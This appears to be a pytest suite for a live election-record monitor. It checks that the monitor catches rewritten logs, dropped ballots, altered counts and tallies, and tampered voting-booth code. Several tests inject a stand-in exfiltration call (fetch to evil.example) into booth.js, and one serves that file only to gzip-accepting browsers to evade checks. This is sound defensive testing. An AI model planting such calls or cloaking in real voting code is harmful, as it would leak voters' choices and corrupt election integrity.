"""The live monitor (scripts/verify.py --follow): it follows an election from open to final
result and agrees with the batch verifier; it catches a rewritten history, a dropped entry and a
wrong count within one poll, with the evidence saved; it resumes after kill -9."""

from __future__ import annotations

import json
import random
import shutil
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from crypto.cosignature import TYPE_ED25519, Cosigner
from crypto.merkle import MerkleTree, leaf_hash
from crypto.note import parse_note
from crypto.witness_policy import manifest_section
from scripts.builders import insecure
from scripts.builders.sample import build_election
from scripts.builders.simulate import SimulatedElection, _local_witnesses, cast_round, run_election
from scripts.verifier.follow_state import MIRROR
from tally_service.service import results, tally
from tally_service.service.app import create_app
from tally_service.service.config import Config
from tally_service.service.election import Election
from tally_service.service.export import export_record
from tally_service.service.witnessing import accept_posted
from tests.follow_helpers import Follower, RecordService, Report, ThreadServer
from tests.verify_helpers import (
    PYTHON,
    SCRIPTS,
    TURNOUT,
    UNITS,
    Built,
    build_record,
    checkpoint_of,
    lines_of,
    make_chooser,
    notes_of,
    read_json,
    resign_result,
    sign_log_checkpoint,
    verify,
    write_json,
    write_lines,
    write_notes,
)


def agree(live: Report, batch: Report) -> None:
    """The same verdict, check by check, with the same failures and the same counts."""
    for cid, check in batch.checks.items():
        mine = live.checks[cid]
        assert mine.ok == check.ok, (cid, mine.failures, check.failures)
        assert mine.failures == check.failures, cid
        assert mine.checked == check.checked, cid
        assert mine.notes == check.notes, cid


def run_election_followed(
    data: Path,
    election: Election,
    follower: Follower,
    sim: SimulatedElection,
    sync: Callable[[], None] = lambda: None,
) -> None:
    """The election, polled at each step; ``sync`` has the witnesses cosign what is new (the
    monitor sees each new note before its cosignatures, then again after)."""
    rng, chooser = random.Random(3), make_chooser()

    def cast_and_close(unit: str, round_no: int) -> None:
        cast_round(election, sim, unit, round_no, TURNOUT[unit], chooser, rng)
        follower.poll()
        sync()
        follower.poll()
        election.close_round(unit, round_no)
        follower.poll()
        sync()
        follower.poll()

    follower.poll()
    for u in UNITS:
        election.open_round(u.code, 1)
        follower.poll()
        cast_and_close(u.code, 1)
        insecure.tally_in_process(election, u.code, 1, [1, 2])
        follower.poll()
    results.publish(election, "preliminary")
    for u in UNITS:
        doc = tally.start_tally(election, u.code, 1)
        if tally.outcome(election, doc).status == "runoff":
            tally.open_runoff(election, u.code)
            follower.poll()
            cast_and_close(u.code, 2)
            insecure.tally_in_process(election, u.code, 2, [1, 2])
    follower.poll()
    assert not follower.done
    results.publish(election, "final")


def assert_mirror_is(record: Path, mirror: Path) -> None:
    for path in record.rglob("*"):
        if path.is_file() and path.name != "README.md":
            assert (mirror / path.relative_to(record)).read_bytes() == path.read_bytes(), path


@pytest.mark.slow
def test_a_monitor_following_an_election_agrees_with_the_batch_verifier(tmp_path: Path) -> None:
    data = tmp_path / "data"
    keys = build_election(data, UNITS, guardians=3, threshold=2)
    election = Election(data, Config(checkpoint_every=4, checkpoint_seconds=3600))
    server = ThreadServer(create_app(election))
    events: list[dict[str, Any]] = []
    try:
        follower = Follower(server.url, tmp_path / "state", emit=events.append)
        run_election_followed(data, election, follower, SimulatedElection(data, keys))
        follower.poll()
        assert follower.done, "the verdict comes with the final result's first poll"
        record = export_record(election, tmp_path / "record")
    finally:
        server.stop()
        election.stop()
    batch = verify(record)
    assert batch.ok, batch.failed()
    agree(follower.report, batch)
    assert_mirror_is(record, tmp_path / "state" / "record")  # byte for byte
    kinds = [e["event"] for e in events]
    assert kinds.count("verdict") == 1 and events[-1]["ok"] is True
    assert {"setup", "open", "checkpoint", "closed", "tally", "runoff", "result"} <= set(kinds)
    # the preliminary result was checked when it came, before the final one was published
    assert kinds.count("preliminary") == 1
    finals = [i for i, e in enumerate(events) if e["event"] == "result" and e["kind"] == "final"]
    assert kinds.index("preliminary") < finals[0]
    assert events[kinds.index("preliminary")]["ok"] is True


WITNESSES = [Cosigner.generate(f"w{i}.example/witness", TYPE_ED25519) for i in range(1, 5)]


def cosign_late(election: Election, unit: str, round_no: int, index: int) -> None:
    """The fourth witness (pull mode, as a guardian) cosigns a stored note of the log, which
    the service appends to that note after it was first served."""
    row = election.store.checkpoints(unit, round_no)[index]
    note, now = row.note, int(time.time())
    line = WITNESSES[3].cosign(checkpoint_of(note), now).line()
    if row.final:  # a final counts the witness's finality statement (issue 24)
        line += WITNESSES[3].cosign_final(checkpoint_of(note), now).line()
    assert WITNESSES[3].name in accept_posted(election, unit, round_no, note + line)


@pytest.mark.slow
def test_a_monitor_sees_cosignatures_added_to_notes_it_already_holds(tmp_path: Path) -> None:
    """Witnesses cosign each note after the monitor first saw it, the fourth one even after the
    final result: the monitor takes the new lines (of notes old and new), checks the quorum of
    each final checkpoint on the note as exported, and agrees with the batch verifier."""
    data = tmp_path / "data"
    section = manifest_section(3, 0, [w.public for w in WITNESSES])
    keys = build_election(data, UNITS, guardians=3, threshold=2, witnesses=section)
    election = Election(data, Config(checkpoint_every=4, checkpoint_seconds=3600))
    sync = _local_witnesses(election, WITNESSES[:3], tmp_path / "witnesses")
    server = ThreadServer(create_app(election))
    events: list[dict[str, Any]] = []
    try:
        follower = Follower(server.url, tmp_path / "state", emit=events.append)
        sim = SimulatedElection(data, keys)
        run_election_followed(data, election, follower, sim, sync)
        cosign_late(election, "AAA", 1, 1)  # a note long followed by others
        cosign_late(election, "AAA", 1, -1)  # the final one, witnessed long ago
        follower.poll()
        assert follower.done
        record = export_record(election, tmp_path / "record")
    finally:
        server.stop()
        election.stop()
    batch = verify(record)
    assert batch.ok, batch.failed()
    agree(follower.report, batch)
    assert_mirror_is(record, tmp_path / "state" / "record")  # the late lines included
    v4 = follower.report.checks["V4"].checked
    assert v4["cosignatures by w4.example/witness"] == 2
    finals = sum(1 for e in events if e["event"] == "witnessed" and e["final"])
    assert finals == len(follower.state.logs) and events[-1]["ok"] is True


def one_witnessed_unit(tmp_path: Path, record: Path) -> list[str]:
    """A finished one-unit election whose notes two witnesses cosign, exported to ``record``;
    the notes of its log."""
    run_election(
        tmp_path / "data",
        UNITS[:1],
        turnout=TURNOUT["AAA"],
        chooser=make_chooser(),
        record=record,
        checkpoint_every=4,
        witnesses=WITNESSES[:2],
    )
    return notes_of(record / "units" / "AAA" / "1" / "checkpoints.txt")


def test_a_note_served_again_may_only_gain_signature_lines(tmp_path: Path) -> None:
    """A note the monitor holds, served again with its text or its log signature changed, or no
    longer served: evidence, and the log is no longer followed."""
    record = tmp_path / "witnessed"
    notes = one_witnessed_unit(tmp_path, record)
    body, block = notes[1].split("\n\n")
    log_line = block.split("\n")[0]  # the log's own signature comes first
    plain = f"{body}\n\n{log_line}\n"  # as first served: not yet cosigned
    name, sig = log_line.rsplit(" ", 1)
    bad = f"{name} {sig[:10]}{'B' if sig[10] == 'A' else 'A'}{sig[11:]}"
    changes: dict[str, str | None] = {
        "no longer served": None,
        "another text": body.replace("\n", "\n ", 1) + f"\n\n{log_line}\n",
        "lacks or changes a signature line": f"{body}\n\n{bad}\n",
    }
    for i, (why, changed) in enumerate(changes.items()):
        served = tmp_path / f"served{i}"  # as part-way: only AAA round 1 open, no tally yet
        (served / "units" / "AAA").mkdir(parents=True)
        for name in ("manifest.json", "key_ceremony.json"):
            shutil.copy(record / name, served / name)
        shutil.copytree(record / "units" / "AAA" / "1", served / "units" / "AAA" / "1")
        (served / "units" / "AAA" / "1" / "tally.json").unlink()
        write_notes(served / "units" / "AAA" / "1" / "checkpoints.txt", [notes[0], plain])
        server = ThreadServer(RecordService(served))
        try:
            follower = Follower(server.url, tmp_path / f"state{i}")
            follower.poll()
            assert follower.state.logs["AAA/1"].notes == 2 and follower.report.ok
            now = [notes[0]] if changed is None else [notes[0], changed]
            write_notes(served / "units" / "AAA" / "1" / "checkpoints.txt", now)
            follower.poll()
        finally:
            server.stop()
        failures = v4_failures(follower)
        assert len(failures) == 1 and why in failures[0], failures
        assert follower.state.logs["AAA/1"].broken is not None
        accepted = evidence_of(tmp_path / f"state{i}") / "accepted.txt"
        assert accepted.read_text(encoding="utf-8") == plain


def test_a_witness_line_that_does_not_verify_is_told_at_once_and_failed_as_by_the_batch_verifier(
    tmp_path: Path,
) -> None:
    """A cosignature line under a listed witness's name that does not verify, added to the
    final note (with its witnesses' lines) after the monitor accepted it: a ``fail`` event in
    that poll, while the log is still followed (its own signature holds); the verdict's V4
    fails it once, as the batch verifier fails the exported record, and the reports agree."""
    record = tmp_path / "witnessed"
    notes = one_witnessed_unit(tmp_path, record)
    served = tmp_path / "served"
    shutil.copytree(record, served, ignore=shutil.ignore_patterns("results"))
    checkpoints = served / "units" / "AAA" / "1" / "checkpoints.txt"
    body, block = notes[-1].split("\n\n")
    witnessed = tuple(f"\u2014 {w.name}{end} " for w in WITNESSES for end in ("", "/final"))
    own = [line for line in block.splitlines() if not line.startswith(witnessed)]
    assert len(own) == 2  # the log's and the commission's signatures
    write_notes(checkpoints, [*notes[:-1], f"{body}\n\n" + "".join(f"{x}\n" for x in own)])
    events: list[dict[str, Any]] = []
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state", emit=events.append)
        follower.poll()
        assert follower.state.logs["AAA/1"].final and not events_of(events, "fail")
        assert not follower.state.logs["AAA/1"].quorum  # served before its cosignatures
        forged = WITNESSES[0].cosign(checkpoint_of(notes[0]), 0).line()  # another checkpoint
        write_notes(checkpoints, [*notes[:-1], notes[-1] + forged])
        follower.poll()
        told = events_of(events, "fail")
        assert len(told) == 1 and told[0]["check"] == "V4" and told[0]["before_verdict"]
        assert f"note {len(notes)}" in told[0]["where"] and "witness cosignature" in told[0]["why"]
        assert follower.state.logs["AAA/1"].broken is None and follower.report.ok
        shutil.copytree(record / "results", served / "results")
        follower.poll()
        assert follower.done
    finally:
        server.stop()
    batch = verify(served)
    assert batch.failed() == ["V4"] and len(batch.checks["V4"].failures) == 1
    agree(follower.report, batch)


def events_of(events: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    return [e for e in events if e["event"] == kind]


# -- a hostile service: a record directory served file by file, edited between polls ------------


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Built:
    return build_record(tmp_path_factory.mktemp("follow"))


def staged(built: Built, base: Path, unit_lines: int, notes: int) -> Path:
    """What the service showed part-way: the manifest, the ceremony, and AAA round 1 up to its
    ``notes``-th checkpoint with ``unit_lines`` ballots (other logs not opened yet)."""
    served = base / "served"
    served.mkdir()
    for name in ("manifest.json", "key_ceremony.json"):
        shutil.copy(built.record / name, served / name)
    shutil.copytree(built.record / "booth_code", served / "booth_code")
    folder = served / "units" / "AAA" / "1"
    folder.mkdir(parents=True)
    source = built.record / "units" / "AAA" / "1"
    write_lines(folder / "ballots.jsonl", lines_of(source / "ballots.jsonl")[:unit_lines])
    write_notes(folder / "checkpoints.txt", notes_of(source / "checkpoints.txt")[:notes])
    return served


def evidence_of(state: Path) -> Path:
    folders = sorted((state / "evidence").iterdir())
    assert len(folders) == 1
    return folders[0]


def v4_failures(follower: Follower) -> list[str]:
    return [f"{f.where}: {f.why}" for f in follower.report["V4"].failures]


@pytest.fixture
def lagging(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """A monitor whose ballot checks lag: each poll checks one round of two ballots, then
    stops (a check budget of 0 s), as a monitor outpaced by the election does. The Follower's
    keyword arguments."""
    monkeypatch.setattr("scripts.verifier.follow.BATCH_LINES", 2)
    monkeypatch.setattr("scripts.verifier.follow.ROUND_BATCHES", 1)
    return {"check_budget": 0.0}


@pytest.mark.parametrize("restarted", [False, True])
@pytest.mark.parametrize("lag", [False, True])
def test_a_rewritten_history_is_caught_at_the_next_poll_with_both_notes_kept(
    finished: Built, tmp_path: Path, restarted: bool, lag: bool, request: pytest.FixtureRequest
) -> None:
    """Also when the monitor has not checked the ballots of the checkpoints it accepted yet:
    checking lags, accepting does not."""
    options = request.getfixturevalue("lagging") if lag else {}
    served = staged(finished, tmp_path, 8, 3)  # checkpoints of size 0, 4 and 8
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state", **options)
        follower.poll()
        follower.poll()
        assert follower.state.logs["AAA/1"].size == 8 and follower.report.ok
        assert follower.state.logs["AAA/1"].checked == (4 if lag else 8)
        accepted_note = follower.state.logs["AAA/1"].last_note
        if restarted:  # the accepted note comes back from the mirror, not from state.json
            follower.close()
            assert accepted_note not in (tmp_path / "state" / "state.json").read_text()
            follower = Follower(server.url, tmp_path / "state", **options)
            assert follower.state.logs["AAA/1"].last_note == accepted_note
        # the operator swaps two ballots it had already logged and signs on from there
        folder = served / "units" / "AAA" / "1"
        lines = lines_of(finished.record / "units" / "AAA" / "1" / "ballots.jsonl")[:12]
        lines[0], lines[1] = lines[1], lines[0]
        write_lines(folder / "ballots.jsonl", lines)
        root = MerkleTree(leaf_hash(line) for line in lines).root()
        notes = notes_of(folder / "checkpoints.txt")
        write_notes(
            folder / "checkpoints.txt",
            [*notes, sign_log_checkpoint(finished, "AAA", 1, 12, root, at="2023-01-14T05:10:00Z")],
        )
        follower.poll()
    finally:
        server.stop()
    failures = v4_failures(follower)
    assert len(failures) == 1 and "history rewritten" in failures[0], failures
    assert "units/AAA/1/checkpoints.txt note 4" in failures[0]
    evidence = evidence_of(tmp_path / "state")
    assert (evidence / "accepted.txt").read_text() == accepted_note
    accepted = checkpoint_of((evidence / "accepted.txt").read_text())
    rewritten = checkpoint_of((evidence / "new.txt").read_text())
    assert (accepted.size, rewritten.size) == (8, 12)
    # both are signed by the unit's log key: the pair itself proves the rewrite
    for name in ("accepted.txt", "new.txt"):
        signers = parse_note((evidence / name).read_text()).signatures
        assert [s.name for s in signers] == ["tally.example/test-election/AAA"]
    assert (evidence / "consistency-proof.json").exists()
    assert "history rewritten" in (evidence / "why.txt").read_text()
    # the monitor stops trusting that log and does not report it again
    follower_again = Follower(server.url, tmp_path / "state")
    assert v4_failures(follower_again) == failures


def test_ballot_checks_that_lag_behind_the_log_catch_up_and_agree_with_the_batch_verifier(
    finished: Built, tmp_path: Path, lagging: dict[str, Any]
) -> None:
    """A monitor that checks ballots slower than the service logs them accepts every log's
    checkpoints at once, checks their ballots over the following polls (resuming from its
    state after a restart), closes each log only once its ballots are checked, and ends with
    the batch verifier's report: no ballot checked twice, none left out."""
    served = tmp_path / "served"
    shutil.copytree(finished.record, served, ignore=shutil.ignore_patterns("results"))
    server = ThreadServer(RecordService(served))
    events: list[dict[str, Any]] = []
    try:
        follower = Follower(server.url, tmp_path / "state", emit=events.append, **lagging)
        follower.poll()
        logs = follower.state.logs.values()
        assert all(lg.final for lg in logs if lg.round == 1)  # every checkpoint accepted
        assert sum(lg.checked for lg in logs) == 2  # one round of checks
        assert sum(lg.closed_checked for lg in logs) == 0 and "closed" not in str(events)
        saved = json.loads((tmp_path / "state" / "state.json").read_text())
        assert sum(lg["checked"] for lg in saved["logs"].values()) == 2
        follower.poll()
        follower.close()
        # a restart: the checks go on from the state, on the ballots read back from the mirror
        follower = Follower(server.url, tmp_path / "state", emit=events.append, **lagging)
        polls = 0
        while not all(lg.tallied for lg in follower.state.logs.values()):
            follower.poll()
            polls += 1
            assert polls < 100
        assert polls > 5
        shutil.copytree(finished.record / "results", served / "results")
        follower.poll()
        assert follower.done
    finally:
        server.stop()
    batch = verify(finished.record)
    assert batch.ok
    agree(follower.report, batch)
    checked = sum(e["ballots"] for e in events if e["event"] == "checked")
    assert checked == batch.checks["V3"].checked["ballots"]
    kinds = [e["event"] for e in events]
    assert kinds.count("closed") == len(follower.state.logs)
    for e in events:
        if e["event"] == "closed":  # only once the log's ballots were all checked
            done = [c for c in events[: events.index(e)] if c["event"] == "checked"]
            assert max(c["logs"].get(e["log"], 0) for c in done) == e["size"]


def test_a_dropped_entry_is_caught_at_the_next_checkpoint(finished: Built, tmp_path: Path) -> None:
    served = staged(finished, tmp_path, 8, 3)
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state")
        follower.poll()
        assert follower.state.logs["AAA/1"].size == 8 and follower.report.ok
        # the operator drops the third ballot (covered by the checkpoints of size 4 and 8)
        folder = served / "units" / "AAA" / "1"
        source = finished.record / "units" / "AAA" / "1"
        lines = lines_of(source / "ballots.jsonl")[:12]
        write_lines(folder / "ballots.jsonl", lines[:2] + lines[3:])
        write_notes(folder / "checkpoints.txt", notes_of(source / "checkpoints.txt")[:4])
        follower.poll()
    finally:
        server.stop()
    failures = v4_failures(follower)
    assert len(failures) == 1, failures
    assert "covers 12 entries, but the service serves only 11" in failures[0]
    evidence = evidence_of(tmp_path / "state")
    assert checkpoint_of((evidence / "new.txt").read_text()).size == 12


def move_a_vote(built: Built, result: Path) -> None:
    """One vote more for AAA-C2 in AAA's round 1, the result signed again by the commission."""
    doc = read_json(result)
    unit = next(u for u in doc["payload"]["units"] if u["unit"] == "AAA")
    unit["rounds"][0]["votes"]["AAA-C2"] += 1
    write_json(result, doc)
    resign_result(built, result)


def test_a_wrong_count_is_caught_when_the_result_appears_and_the_batch_verifier_agrees(
    finished: Built, tmp_path: Path
) -> None:
    served = tmp_path / "served"
    shutil.copytree(finished.record, served)
    shutil.move(served / "results", tmp_path / "results")
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state")
        for _ in range(3):  # round 1, then the runoff it calls for
            follower.poll()
        # every round is checked, the void one (CCC, never decrypted) included
        assert all(lg.tallied for lg in follower.state.logs.values())
        assert follower.report.ok and not follower.done
        # the commission publishes a final result with one vote moved
        move_a_vote(finished, tmp_path / "results" / "final.json")
        shutil.copytree(tmp_path / "results", served / "results")
        follower.poll()
    finally:
        server.stop()
    assert follower.done
    assert follower.report.failed() == ["V9"]
    agree(follower.report, verify(served))
    assert json.dumps([f.why for f in follower.report["V9"].failures])


def test_a_wrong_preliminary_result_is_caught_before_the_final_one_appears(
    finished: Built, tmp_path: Path
) -> None:
    """The preliminary result comes the same day, the final one days later: the monitor checks
    the preliminary one as soon as the rounds it covers are tallied, and says so at once."""
    served = tmp_path / "served"
    shutil.copytree(finished.record, served)
    shutil.move(served / "results", tmp_path / "results")
    events: list[dict[str, Any]] = []
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state", emit=events.append)
        for _ in range(3):
            follower.poll()
        assert all(lg.tallied for lg in follower.state.logs.values())
        # a preliminary result with one vote moved, signed by the commission
        preliminary = tmp_path / "results" / "preliminary.json"
        move_a_vote(finished, preliminary)
        (served / "results").mkdir()
        shutil.copy(preliminary, served / "results" / "preliminary.json")
        follower.poll()
        early = [e for e in events if e["event"] in ("preliminary", "fail")]
        assert [e["event"] for e in early] == ["fail", "preliminary"], early
        assert early[0]["result"] == "preliminary" and early[0]["check"] == "V9"
        assert early[0]["where"] == "results/preliminary.json unit AAA round 1 votes"
        assert early[1]["ok"] is False and not follower.done
        # days later, the final result: the verdict's V9 agrees with the batch verifier
        shutil.copy(tmp_path / "results" / "final.json", served / "results" / "final.json")
        follower.poll()
        follower.poll()
    finally:
        server.stop()
    assert follower.done and follower.report.failed() == ["V9"]
    agree(follower.report, verify(served))
    assert sum(1 for e in events if e["event"] == "preliminary") == 1


def test_an_honest_preliminary_result_is_checked_before_the_final_one(
    finished: Built, tmp_path: Path
) -> None:
    served = tmp_path / "served"
    shutil.copytree(finished.record, served)
    (served / "results" / "final.json").unlink()
    events: list[dict[str, Any]] = []
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state", emit=events.append)
        for _ in range(3):  # the first poll sees the preliminary result before any log
            follower.poll()
    finally:
        server.stop()
    checked = [e for e in events if e["event"] == "preliminary"]
    assert len(checked) == 1 and checked[0]["ok"] is True, events[-3:]
    assert checked[0]["rounds"] == 3  # round 1 of AAA, BBB, CCC (BBB's runoff came after)
    assert not [e for e in events if e["event"] == "fail"] and not follower.done


def test_a_tally_changed_after_the_monitor_checked_it_is_caught_at_the_verdict(
    finished: Built, tmp_path: Path
) -> None:
    """The operator publishes a tally, lets the monitor check it, then serves (and would
    export) another one: the monitor asks for every file it mirrored whole again at the
    verdict, fails V5 and keeps both versions."""
    served = tmp_path / "served"
    shutil.copytree(finished.record, served)
    shutil.move(served / "results", tmp_path / "results")
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state")
        for _ in range(3):
            follower.poll()
        assert all(lg.tallied for lg in follower.state.logs.values()) and follower.report.ok
        tally_file = served / "units" / "AAA" / "1" / "tally.json"
        checked = tally_file.read_bytes()
        write_json(tally_file, {**read_json(tally_file), "took_part": 1})
        shutil.copytree(tmp_path / "results", served / "results")
        follower.poll()
    finally:
        server.stop()
    assert follower.done and follower.report.failed() == ["V5"]
    [failure] = follower.report["V5"].failures
    assert failure.where == "units/AAA/1/tally.json"
    assert failure.why.startswith("the service now serves another units/AAA/1/tally.json")
    evidence = evidence_of(tmp_path / "state")
    assert (evidence / "checked").read_bytes() == checked
    assert (evidence / "served-now").read_bytes() == tally_file.read_bytes()
    assert not verify(served).ok  # the batch verifier, on what is served now, fails too


def wait_for(condition: Any, what: str, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.05)


def accepted_size(state: Path, log: str) -> int:
    try:
        doc = json.loads((state / "state.json").read_text())
    except (OSError, ValueError):
        return 0
    entry = doc["logs"].get(log)
    return int(entry["size"]) if entry else 0


@pytest.mark.slow
def test_a_monitor_killed_mid_election_resumes_and_still_agrees(tmp_path: Path) -> None:
    data, state = tmp_path / "data", tmp_path / "state"
    keys = build_election(data, UNITS, guardians=3, threshold=2)
    sim = SimulatedElection(data, keys)
    election = Election(data, Config(checkpoint_every=4, checkpoint_seconds=3600))
    server = ThreadServer(create_app(election))
    command = [
        PYTHON,
        str(SCRIPTS / "verify.py"),
        "--follow",
        server.url,
        "--state",
        str(state),
        "--interval",
        "0.1",
        "--json",
    ]
    monitor = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    rng, chooser = random.Random(5), make_chooser()
    try:
        for u in UNITS:
            election.open_round(u.code, 1)
        cast_round(election, sim, "AAA", 1, TURNOUT["AAA"], chooser, rng)
        wait_for(lambda: accepted_size(state, "AAA/1") >= 8, "the monitor to follow AAA")
        cast_round(election, sim, "BBB", 1, TURNOUT["BBB"], chooser, rng)
        time.sleep(0.15)  # likely in the middle of checking BBB's ballots
        monitor.kill()
        monitor.wait()
        for u in UNITS:
            if u.code == "CCC":
                cast_round(election, sim, "CCC", 1, TURNOUT["CCC"], chooser, rng)
            election.close_round(u.code, 1)
            insecure.tally_in_process(election, u.code, 1, [1, 2])
        results.publish(election, "preliminary")
        monitor = subprocess.Popen([*command, "--until-final"], stdout=subprocess.PIPE, text=True)
        tally.open_runoff(election, "BBB")
        cast_round(election, sim, "BBB", 2, TURNOUT["BBB"], chooser, rng)
        election.close_round("BBB", 2)
        insecure.tally_in_process(election, "BBB", 2, [1, 2])
        results.publish(election, "final")
        out, _ = monitor.communicate(timeout=120)
        record = export_record(election, tmp_path / "record")
    finally:
        if monitor.poll() is None:
            monitor.kill()
            monitor.wait()
        server.stop()
        election.stop()
    assert monitor.returncode == 0, out[-2000:]
    verdict = json.loads(out.strip().splitlines()[-1])
    assert verdict["event"] == "verdict" and verdict["ok"] is True
    batch = verify(record)
    assert batch.ok
    assert verdict["report"]["checks"] == batch.to_json()["checks"]


def test_a_log_never_closed_is_reported_as_the_batch_verifier_reports_it(
    finished: Built, tmp_path: Path
) -> None:
    served = tmp_path / "served"
    shutil.copytree(finished.record, served)
    checkpoints = served / "units" / "CCC" / "1" / "checkpoints.txt"
    write_notes(checkpoints, notes_of(checkpoints)[:-1])  # the final checkpoint never came
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state")
        follower.poll()  # the final result is there: one poll follows everything, runoff included
    finally:
        server.stop()
    assert follower.done
    batch = verify(served)
    assert "V4" in batch.failed()
    agree(follower.report, batch)


def test_the_command_line_refuses_what_it_cannot_follow(tmp_path: Path) -> None:
    from scripts.verifier.follow_state import FollowState
    from tests.verify_helpers import run_script

    nothing = run_script("verify.py")
    assert nothing.returncode == 2 and "--follow URL" in nothing.stderr
    still = run_script("verify.py", "--follow", "http://127.0.0.1:9", "--interval", "0")
    assert still.returncode == 2 and "--interval" in still.stderr
    (tmp_path / "state.json").write_text(json.dumps({"format": "kz-tally/follow-state/v1"}))
    garbled = run_script("verify.py", "--follow", "http://127.0.0.1:9", "--state", str(tmp_path))
    assert garbled.returncode == 2 and "not a usable monitor state" in garbled.stderr
    (tmp_path / "state.json").write_text(json.dumps(FollowState("http://elsewhere").to_json()))
    other = run_script("verify.py", "--follow", "http://127.0.0.1:9", "--state", str(tmp_path))
    assert other.returncode == 2 and "follows http://elsewhere" in other.stderr


# -- the booth's code (issue 25): served bytes compared with the sealed hashes on every poll ----


def test_a_service_that_serves_a_changed_booth_js_is_caught_with_evidence(
    finished: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The real service, its election sealed with the project's booth files, started with a
    booth.js that also posts the elector's choice elsewhere (and the page that loads it, with
    that file's SRI hash): the monitor's first poll fails V1 on both, the bytes served kept."""
    import tally_service.service.pages

    static = tmp_path / "static"
    shutil.copytree(tally_service.service.pages.STATIC, static)
    evil = (static / "js" / "booth.js").read_bytes() + b"\nroot.fetch('https://evil.example/');\n"
    (static / "js" / "booth.js").write_bytes(evil)
    monkeypatch.setattr(tally_service.service.pages, "STATIC", static)
    shutil.copytree(finished.data_dir, tmp_path / "data")  # the module's election stays as is
    election = Election(tmp_path / "data", Config())
    app = create_app(election)
    app.static_folder = str(static)
    server = ThreadServer(app)
    try:
        follower = Follower(server.url, tmp_path / "state")
        follower.poll()
    finally:
        server.stop()
        election.stop()
    assert follower.done and follower.report.failed() == ["V1"]
    failures = {f.where: f.why for f in follower.report["V1"].failures}
    assert set(failures) == {"booth_code/static/js/booth.js", "booth_code/booth"}
    why = failures["booth_code/static/js/booth.js"]
    assert why.startswith("the service now serves another static/js/booth.js than the sealed")
    kept = [p for p in (tmp_path / "state" / "evidence").iterdir() if "booth.js" in p.name]
    assert [(p / "served-now").read_bytes() for p in kept] == [evil]
    assert not (tmp_path / "state" / MIRROR / "booth_code" / "static" / "js" / "booth.js").exists()


def test_a_booth_file_changed_between_polls_is_kept_once_with_both_versions(
    finished: Built, tmp_path: Path
) -> None:
    """The operator serves the sealed booth.js while the monitor first looks, then another:
    caught at the next poll, both versions kept, and reported once however often it is
    served (before the final result; the record the service would export fails V1 too)."""
    served = staged(finished, tmp_path, 4, 1)
    server = ThreadServer(RecordService(served))
    state = tmp_path / "state"
    js = served / "booth_code" / "static" / "js" / "booth.js"
    sealed_js = js.read_bytes()
    try:
        follower = Follower(server.url, state)
        follower.poll()
        assert follower.report.ok, follower.report.failed()
        assert (state / MIRROR / "booth_code" / "static" / "js" / "booth.js").read_bytes() == (
            sealed_js
        )
        js.write_bytes(sealed_js.replace(b"use strict", b"use sloppy"))
        follower.poll()
        follower.poll()
    finally:
        server.stop()
    assert follower.report.failed() == ["V1"]
    [failure] = follower.report["V1"].failures
    assert failure.where == "booth_code/static/js/booth.js"
    evidence = evidence_of(state)
    assert (evidence / "served-now").read_bytes() == js.read_bytes()
    assert (evidence / "sealed").read_bytes() == sealed_js
    assert "booth.files" in (evidence / "why.txt").read_text()
    assert "V1" in verify(served).failed()


def test_a_booth_file_not_served_at_all_fails_v1(finished: Built, tmp_path: Path) -> None:
    """A service that stops serving the vendored libsodium (404): the monitor says so."""
    served = tmp_path / "served"
    shutil.copytree(finished.record, served)
    (served / "booth_code" / "static" / "vendor" / "libsodium-sumo.js").unlink()
    server = ThreadServer(RecordService(served))
    try:
        follower = Follower(server.url, tmp_path / "state")
        follower.poll()
    finally:
        server.stop()
    assert follower.done and follower.report.failed() == ["V1"]
    [failure] = follower.report["V1"].failures
    assert failure.where == "booth_code/static/vendor/libsodium-sumo.js"
    assert failure.why.endswith(
        "none at all (evidence: evidence/001-changed-booth_code-static-vendor-libsodium-sumo.js)"
    )


def test_a_changed_booth_js_served_only_to_browsers_that_accept_gzip_is_caught(
    finished: Built, tmp_path: Path
) -> None:
    """The operator answers with the sealed booth.js when asked without Accept-Encoding (as
    curl and a naive monitor ask) and with its own, gzip-compressed, when asked as browsers
    ask: the monitor asks both ways on alternate polls and catches it."""
    import gzip

    served = staged(finished, tmp_path, 4, 1)
    evil = b"root.fetch('https://evil.example/');\n"
    plain = RecordService(served)

    def service(environ: dict[str, Any], start_response: Callable[..., Any]) -> list[bytes]:
        browser = "gzip" in environ.get("HTTP_ACCEPT_ENCODING", "")
        if environ["PATH_INFO"] == "/static/js/booth.js" and browser:
            start_response("200 OK", [("Content-Encoding", "gzip")])
            return [gzip.compress(evil)]
        return plain(environ, start_response)

    server = ThreadServer(service)
    try:
        follower = Follower(server.url, tmp_path / "state")
        follower.poll()
        follower.poll()
    finally:
        server.stop()
    assert follower.report.failed() == ["V1"]
    [failure] = follower.report["V1"].failures
    assert failure.where == "booth_code/static/js/booth.js"
    assert (evidence_of(tmp_path / "state") / "served-now").read_bytes() == evil
